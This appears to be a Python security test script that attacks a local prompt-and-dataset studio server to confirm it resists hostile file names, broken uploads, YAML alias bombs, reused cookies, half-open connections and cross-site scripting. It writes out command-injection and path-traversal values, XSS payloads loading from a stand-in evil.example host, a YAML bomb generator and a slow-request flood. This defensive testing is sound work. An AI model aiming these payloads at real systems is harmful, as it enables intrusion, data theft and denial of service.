"""Attacks on the studio at full size: `python tests/attack_studio.py [names uploads imports logout half scripts]`; the suite does them in
small.

names     300 hostile names as datasets, splits, files and zip members: an answer of 302, 400 or 404, and no file outside .studio/
uploads   300 broken files of rows and of prompts: 302 or 400, no 5xx
imports   prompts whose YAML stands for 10^9 values, has what no JSON has, or cannot be made: 400 within seconds, the search answers
          as before, and the server's memory does not grow
logout    a cookie that was copied before its owner logged out: it opens nothing
half      540 requests that are half sent and renewed when they are closed: pages are served all the while
scripts   500 payloads in 12 fields, in Chromium: no dialog, no error in the console, no violation of the policy"""

import html
import io
import itertools
import json
import random
import re
import shutil
import socket
import sys
import tempfile
import threading
import time
import zipfile
from pathlib import Path
from urllib.parse import quote

sys.path.insert(0, str(Path(__file__).parent))
from load_studio import Client, server  # noqa: E402
from studio_client import make_folder  # noqa: E402

from t0native.studio.accounts import Accounts  # noqa: E402

WATCH = """addEventListener("securitypolicyviolation", (event) => console.error("policy: " + event.violatedDirective + " " + event.blockedURI));"""


def payloads(count=500):
    """Scripts in many disguises: what opens a context x what runs x how it is written."""
    opens = [
        "",
        '">',
        "'>",
        "</textarea>",
        "</title>",
        "</script>",
        "--></pre>",
        "]]>",
        '" autofocus ',
        "</select></option>",
        "&quot;>",
        "`>",
    ]
    runs = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<a href=javascript:alert(1) id=x>x</a>", "<math><a xlink:href=javascript:alert(1)>x</a></math>",
        "<input onfocus=alert(1) autofocus>", "onmouseover=alert(1) x=", "<link rel=stylesheet href=//evil.example/x.css>", "<script src=//evil.example/x.js></script>", "<style>@import '//evil.example'</style>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<object data=javascript:alert(1)>", "<form action=//evil.example><button>x</button></form>", "<video><source onerror=alert(1)></video>",
        "<marquee onstart=alert(1)>", "<template><img src=x onerror=alert(1)></template>", "javascript:alert(1)",
    ]  # fmt: skip
    writes = [str, lambda text: text.replace("<", "&lt;"), str.upper, lambda text: text.replace("alert", "\\u0061lert")]
    every = [opening + write(run) for write, run, opening in itertools.product(writes, runs, opens)]
    return random.Random(1).sample(every, count)


def names(count=300):
    parts = [
        "..",
        ".",
        "~",
        "etc",
        "passwd",
        "con",
        "nul.txt",
        "a\0b",
        "a\nb",
        "%2e%2e",
        "..%2f",
        "C:",
        "\\\\host",
        "ü",
        "a b",
        "-rf",
        "$(id)",
        "`id`",
        ";id",
        "|id",
        "<b>",
        "'",
        '"',
        ".git",
        ".studio",
        "prompts.sqlite",
        "x" * 300,
        "",
        " ",
        "\u202e",
        "a.",
        "{{7*7}}",
    ]
    joined = [separator.join(pair) for separator in ("/", "\\", "/../", "//") for pair in itertools.product(parts, parts)]
    return random.Random(2).sample(joined, count)


def send_file(client, path, field, name, data, **form):
    """A multipart form; its status and page."""
    edge, body = "edge0f6c", b""
    for key, value in {"token": client.token, **form}.items():
        body += f'--{edge}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode("utf-8", "replace")
    quoted = re.sub(r'[\r\n"\0]', "_", name)
    body += (
        f'--{edge}\r\nContent-Disposition: form-data; name="{field}"; filename="{quoted}"\r\n\r\n'.encode()
        + data
        + f"\r\n--{edge}--\r\n".encode()
    )
    client.connection.request("POST", path, body, {"Cookie": client.cookie, "Content-Type": f"multipart/form-data; boundary={edge}"})
    with client.connection.getresponse() as answer:
        return answer.status, answer.read().decode()


def files_outside(folder):
    return sorted(
        str(path.relative_to(folder.parent)) for path in folder.parent.rglob("*") if ".studio" not in path.relative_to(folder.parent).parts
    )


def attack_names(folder, count=300):
    """How often each answer came."""
    before, told = files_outside(folder), {}
    with server(folder) as running:
        client = Client(running.port)
        dataset, _ = client.new_prompts(1)
        for name in names(count):
            answers = [
                client.post("/datasets", name=name)[0],
                send_file(client, f"/dataset/{dataset}/upload", "rows", name + ".jsonl", b'{"a": 1}\n', split=name)[0],
                send_file(client, "/import", "zip", name, zip_of(f"{name}/templates.yaml", b"dataset: x\ntemplates: {}\n"))[0],
            ]
            for answer in answers:
                assert answer in (302, 400), (name, answers)
                told[answer] = told.get(answer, 0) + 1
        client.close()
    assert files_outside(folder) == before, "a file was written outside .studio/"
    return told


def zip_of(name, data):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name.replace("\0", "")), data)
    return out.getvalue()


def attack_uploads(folder, count=300):
    chosen, told = random.Random(3), {}
    good = {
        "a.jsonl": b'{"text": "a", "label": 1}\n' * 20, "a.json": json.dumps([{"text": "a"}] * 9).encode(), "a.csv": b"a,b\n1,2\n3,4\n", "a.tsv": b"a\tb\n1\t2\n",
        "p.zip": zip_of("d/templates.yaml", b"dataset: d\ntemplates:\n  a: !Template\n    id: a\n    name: x\n    jinja: y ||| z\n"),
    }  # fmt: skip
    with server(folder) as running:
        client = Client(running.port)
        dataset, _ = client.new_prompts(1)
        for _ in range(count):
            name, data = chosen.choice(list(good.items()))
            data = bytearray(data)
            for _ in range(chosen.randrange(1, 6)):
                at = chosen.randrange(len(data))
                data[at : at + chosen.randrange(3)] = bytes(
                    chosen.choices([0, 10, 34, 44, 91, 123, 128, 255, 48, 92], k=chosen.randrange(4))
                )
            path, field = ("/import", "zip") if name == "p.zip" else (f"/dataset/{dataset}/upload", "rows")
            status, text = send_file(client, path, field, name, bytes(data), split="s")
            assert status in (302, 400), (status, bytes(data), text[-600:])
            told[status] = told.get(status, 0) + 1
        client.close()
    return told


PROMPT = "dataset: d\ntemplates:\n  {}: !Template {{id: {}, name: n{}, jinja: 'y ||| z', answer_choices: null, metadata: null, {}}}\n"


def yaml_attacks(width=20, levels=7):
    """name -> (a templates.yaml, what must be told of it, or None where it is fine)."""
    lines = [f"x0: &x0 [{','.join('x' * width)}]\n"]
    lines += [f"x{i}: &x{i} [{','.join([f'*x{i - 1}'] * width)}]\n" for i in range(1, levels)]
    bomb, quotes = "".join(lines), "write it in quotes"
    merged = "m0: &m0 {k: v}\n" + "".join(f"m{i}: &m{i} {{<<: [{','.join([f'*m{i - 1}'] * width)}]}}\n" for i in range(1, levels))
    values = {"nan": (".nan", "must be a finite number"), "infinity": ("-.inf", "must be a finite number")}
    values |= {
        "month": ("2024-13-45", quotes),
        "digits": ("9" * 5000, quotes),
        "number": ("!!int abc", quotes),
        "truth": ("!!bool x", quotes),
    }
    values |= {
        "date": ("2024-01-31", "write it as text, in quotes"),
        "key": ("{? [a] : 1}", "unhashable"),
        "deep": ("[" * 200, "nested too"),
    }
    files = {
        "bomb": (bomb + PROMPT.format("a", "a", 1, f"extra: *x{levels - 1}"), "aliases repeat more than"),
        "bomb as id": (bomb + PROMPT.format("a", f"*x{levels - 1}", 1, "reference: ''"), "aliases repeat more than"),
        "merged": (merged + PROMPT.format("a", "a", 1, "reference: ''"), "aliases repeat more than"),
        "null": ("dataset: d\ntemplates: {a: null}\n", "must be tagged !Template"),
        "plain": (PROMPT.format("p", "p", "plain", "extra: 1.5"), None),
    }
    return files | {name: (PROMPT.format(name, name, name, f"extra: {value}"), told) for name, (value, told) in values.items()}


def memory_of(process):
    """Bytes of a process that are, or were, in memory at most."""
    text = Path(f"/proc/{process}/status").read_text()
    return int(re.search(r"VmHWM:\s+(\d+) kB", text).group(1)) << 10


def attack_imports(folder, rounds=1):
    """{name: seconds} of each; the search is asked after each."""
    seconds = {}
    with server(folder) as running:
        client = Client(running.port)
        client.new_prompts(1)
        before = memory_of(running.process.pid)
        for _ in range(rounds):
            for name, (text, told) in yaml_attacks().items():
                began = time.monotonic()
                status, page, _ = send_zip(client, f"{name.replace(' ', '_')}/templates.yaml", text.encode())
                seconds[name] = round(time.monotonic() - began, 2)
                assert status == (302 if told is None else 400) and (told is None or told in html.unescape(page)), (
                    name,
                    status,
                    page[-600:],
                )
                status, page, _ = client.get("/search?q=prompt")
                assert status == 200 and "prompt 0" in page, (name, status, page[-600:])
        grown = memory_of(running.process.pid) - before
        assert grown < 50 << 20, f"the server's process took {grown >> 20} MB"
        client.close()
    return seconds


def send_zip(client, name, data):
    status, page = send_file(client, "/import", "zip", "p.zip", zip_of(name, data))
    return status, page, None


def attack_logout(folder, count=20):
    """How many copied cookies opened a page before, and after, their owners logged out."""
    users = folder.parent / "users.json"
    Accounts(users).add("anna", "a good long one", "reviewer")
    with server(folder, "--users", str(users)) as running:
        copies, owners, opened = [], [], []
        for _ in range(count):
            owner = Client.__new__(Client)
            owner.connection, owner.cookie, owner.token = Client.connect(running.port), "", ""
            owner.token = token_of(owner.get("/login")[1])
            assert owner.post("/login", name="anna", password="a good long one")[0] == 302
            owner.token = token_of(owner.get("/")[1])
            copies.append((owner.cookie, owner.token))
            owners.append(owner)
        for turn in ("before", "after"):
            opened.append(sum(opens(running.port, *copy) for copy in copies[: count // 2]))
            if turn == "before":
                for owner in owners[: count // 2]:
                    assert owner.post("/logout")[0] == 302
        assert all(opens(running.port, *copy) for copy in copies[count // 2 :]), "others were logged out too"
        for owner in owners:
            owner.close()
    return opened


def token_of(page):
    return re.search(r'name="token" value="([^"]+)"', page).group(1)


def opens(port, cookie, token):
    """Whether a cookie reads a page, or writes."""
    client = Client.__new__(Client)
    client.connection, client.cookie, client.token = Client.connect(port), cookie, token
    read, client.cookie = client.get("/log")[0], cookie
    written = client.post("/datasets", name="mine/copied")[0]
    client.close()
    assert (read, written) in ((200, 302), (302, 401)), (read, written)
    return read == 200


HALF = (b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ", b"POST /preview HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1000\r\n\r\na=")


def attack_half_open(folder, count=540, seconds=20.0):
    """Seconds that each of the pages took that another asked for meanwhile."""
    took, over = [], threading.Event()
    with server(folder) as running:

        def hold():
            """Some of the half sent requests: each gets a byte more now and then, and is opened anew when it is closed."""
            held = []
            while not over.is_set():
                while len(held) < count // 4:
                    try:
                        held.append(socket.create_connection(("127.0.0.1", running.port), timeout=2))
                        held[-1].sendall(HALF[len(held) % 2])
                    except OSError:
                        break
                time.sleep(0.05)
                held = [one for one in held if still_open(one)]
            for one in held:
                one.close()

        holders = [threading.Thread(target=hold) for _ in range(4)]
        for holder in holders:
            holder.start()
        time.sleep(min(3.0, seconds / 4))
        try:
            end = time.monotonic() + seconds
            while time.monotonic() < end:
                began = time.monotonic()
                client = Client(running.port)
                assert client.get("/search?q=x")[0] == 200
                client.close()
                took.append(time.monotonic() - began)
        finally:
            over.set()
            for holder in holders:
                holder.join()
    return took


def still_open(one):
    """Whether the other side has not closed a socket, to which one byte more is sent; a closed one is closed here too."""
    try:
        one.sendall(b"b")
        one.setblocking(False)
        if one.recv(1):
            return True
    except BlockingIOError:
        one.settimeout(2)
        return True
    except OSError:
        pass
    one.close()
    return False


def attack_scripts(folder, chromium, count=500):
    """What ran, a list of sentences: it must be empty. chromium: a browser of playwright."""
    tries, wrong = payloads(count), []
    (folder / "mine/first/README.md").write_text("\n".join(tries))
    (folder / "mine/first/train.jsonl").write_text("".join(json.dumps({"text": text, "label": 0, text: text}) + "\n" for text in tries))
    with server(folder) as running:
        client, desk = Client(running.port), f"http://127.0.0.1:{running.port}"
        dataset, _ = client.new_prompts(1)
        page = chromium.new_page()
        page.add_init_script(WATCH)
        page.on(
            "dialog",
            lambda dialog: (
                (wrong.append(f"dialog: {dialog.message}"), dialog.dismiss()) if dialog.type != "beforeunload" else dialog.accept()
            ),
        )
        page.on(
            "console", lambda message: wrong.append(message.text) if message.type == "error" and "status of 4" not in message.text else None
        )
        page.on("request", lambda request: wrong.append(f"request: {request.url}") if not request.url.startswith(desk) else None)
        for number, text in enumerate(tries):
            raw = "{% raw %}" + text + "{% endraw %}"
            fields = {
                "name": f"{text} {number}"[:200],
                "jinja": "{{ text }} " + raw + " ||| " + raw,
                "answer_choices": raw,
                "reference": text,
                "languages": "en",
            }
            status, told, place = client.post(f"/dataset/{dataset}/new", save="1", **fields)
            assert status == 302, told[-900:]
            client.post(f"{place}/comment", comment=text)
            page.goto(desk + place)
            page.goto(desk + place + "/edit")
            page.locator("#reference").press("End")  # and the live preview, by the page's own script
            with page.expect_response("**/preview"):
                page.locator("#reference").type("!")
            page.goto(f"{desk}/search?" + "&".join(f"{key}={quote(text, safe='')}" for key in ("q", "author")))
            submit(
                page,
                f"/dataset/{dataset}/new",
                {"name": text, "jinja": text, "answer_choices": text, "reference": text, "languages": text, "metrics": text, "save": "1"},
            )
            submit(page, "/datasets", {"name": text})
        for path in [
            "/",
            f"/dataset/{dataset}",
            "/log",
            "/review?state=draft",
            "/contributors",
            *(f"/dataset/{dataset}/rows?offset={at}&prompt=2" for at in range(0, count, 50)),
        ]:
            page.goto(desk + path)
        page.close()
        client.close()
    return wrong


def submit(page, path, fields):
    """Sends a form from within the page, as a person would."""
    with page.expect_navigation():
        page.evaluate(
            """([path, fields]) => {
            const form = document.createElement("form");
            form.method = "post";
            form.action = path;
            for (const [name, value] of Object.entries({...fields, token: document.querySelector("[name=token]")?.value ?? ""})) {
                const input = document.createElement("textarea");
                input.name = name;
                input.value = value;
                form.append(input);
            }
            document.body.append(form);
            form.submit();
        }""",
            [path, fields],
        )


def main():
    with tempfile.TemporaryDirectory() as home:
        for what in sys.argv[1:] or ["names", "uploads", "imports", "logout", "half", "scripts"]:
            Path(home, what).mkdir()
            folder = make_folder(Path(home, what, "data"))
            if what == "names":
                print("300 hostile names in three places, answers:", attack_names(folder))
            elif what == "imports":
                print("hostile prompts, seconds to the answer:", attack_imports(folder))
            elif what == "logout":
                print("20 copied cookies, of which 10 owners log out; of these opened before and after:", attack_logout(folder))
            elif what == "half":
                took = sorted(attack_half_open(folder))
                print(f"540 half sent requests: {len(took)} pairs of pages, median {took[len(took) // 2]:.2f} s, longest {took[-1]:.2f} s")
            elif what == "uploads":
                print("300 broken uploads, answers:", attack_uploads(folder))
            else:
                from playwright.sync_api import sync_playwright

                with sync_playwright() as play:
                    browser = play.chromium.launch(executable_path=shutil.which("chromium"), args=["--no-sandbox"])
                    wrong = attack_scripts(folder, browser)
                    browser.close()
                print(f"500 payloads in 12 fields: {len(wrong)} ran, {wrong[:5]}")
            sys.stdout.flush()


if __name__ == "__main__":
    main()
